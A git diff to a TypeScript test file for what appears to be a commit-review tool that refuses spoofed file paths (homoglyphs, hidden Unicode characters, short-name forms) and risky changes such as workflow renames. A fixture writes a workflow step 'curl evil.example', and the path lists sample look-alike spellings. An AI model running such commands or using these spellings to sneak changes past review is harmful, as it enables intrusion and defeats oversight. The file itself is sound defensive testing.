@@ -53,7 +53,12 @@ async function refusalOf(patch: Buffer): Promise<string | undefined> {
   return examineCommit(desk, { head, commit: made.commit, allow: [] });
 }
 
-function write(path: string, content: string | Buffer = 'on: push\nrun: curl evil.example\n'): void {
+/** What a file has where only its path counts: a source is refused for what it does. */
+function contentFor(path: string): string {
+  return /\.[cm]?[jt]sx?$/.test(path) ? 'export const one = 1;\n' : 'on: push\nrun: curl evil.example\n';
+}
+
+function write(path: string, content: string | Buffer = contentFor(path)): void {
   mkdirSync(dirname(join(root, path)), { recursive: true });
   writeFileSync(join(root, path), content);
 }
@@ -182,7 +187,7 @@ const SPELLINGS: readonly (readonly [attack: readonly string[], control: readonl
   [['src/a?.js'], ['src/a!.js']],
   [['PACKAG~1.JSO'], ['docs/package~1.json']],
   [['src/a\u2028b.js'], ['src/a b.js']],
-  [['src/a\u3164.js'], ['src/a\uFE0F.js']],
+  [['src/a\u3164.js'], ['src/a\u3131.js']],
   [['SRC/more.js'], ['srcs/more.js']],
   [['src/ADD.js'], ['src/added.js']],
   [['te\u017Ft/more.js'], ['te\u017Fts/more.js']],
@@ -206,7 +211,7 @@ const SPELLINGS: readonly (readonly [attack: readonly string[], control: readonl
   // Cyrillic а, Greek Α and Armenian օ beside Latin letters; a Cyrillic Ӏ, which may be read as I or l.
   [['src/\u0430dd.js'], ['src/\u044fdd.js']],
   [['\u0455r\u0441/more.js'], ['\u0436rc/more.js']],
-  [['docs/n\u0585tes.txt'], ['docs/n\u0561tes.txt']],
+  [['docs/n\u0585tes.txt'], ['docs/n\u0436tes.txt']],
   [['\u04cfinked/x.txt'], ['\u0416inked/x.txt']],
   [['scr\u04cfpts/x.txt'], ['scr\u0436pts/x.txt']],
   [['src/c\u2010d.js', 'src/c-d.js'], ['src/c\u2010d.js']],
@@ -219,15 +224,15 @@ const SPELLINGS: readonly (readonly [attack: readonly string[], control: readonl
 
 describe('paths that another system reads as something else', () => {
   test.each(SPELLINGS)('%j are refused, %j are not', async (attack, control) => {
-    expect(await refusalOf(patchOf(() => attack.forEach((path) => write(path, 'x\n'))))).toBeTypeOf('string');
-    expect(await refusalOf(patchOf(() => control.forEach((path) => write(path, 'x\n'))))).toBeUndefined();
+    expect(await refusalOf(patchOf(() => attack.forEach((path) => write(path, '1;\n'))))).toBeTypeOf('string');
+    expect(await refusalOf(patchOf(() => control.forEach((path) => write(path, '1;\n'))))).toBeUndefined();
   });
 });
 
 const manifest = NODE_TEST_FILES['package.json'] as object;
 const json = (value: object): string => `${JSON.stringify(value)}\n`;
 const newFile = (path: string): string =>
-  `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`;
+  `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+1;\n`;
 
 /** A change that is refused, and one like it that is not. */
 const CHANGES: readonly (readonly [string, attack: () => Buffer, control: () => Buffer])[] = [
@@ -315,8 +320,8 @@ const CHANGES: readonly (readonly [string, attack: () => Buffer, control: () => 
   ],
   [
     '101 files',
-    () => patchOf(() => Array.from({ length: 101 }, (_, at) => write(`src/f${at}.js`, 'x\n'))),
-    () => patchOf(() => Array.from({ length: 99 }, (_, at) => write(`src/f${at}.js`, 'x\n'))),
+    () => patchOf(() => Array.from({ length: 101 }, (_, at) => write(`src/f${at}.js`, '1;\n'))),
+    () => patchOf(() => Array.from({ length: 99 }, (_, at) => write(`src/f${at}.js`, '1;\n'))),
   ],
   [
     'a file renamed into the folder of workflows',
@@ -357,7 +362,7 @@ const CHANGES: readonly (readonly [string, attack: () => Buffer, control: () => 
   [
     'a patch of another commit',
     () => Buffer.from('--- a/src/add.js\n+++ b/src/add.js\n@@ -1 +1 @@\n-nothing\n+else\n'),
-    () => patchOf(() => write('src/add.js', 'else\n')),
+    () => patchOf(() => write('src/add.js', '1;\n')),
   ],
 ];
 
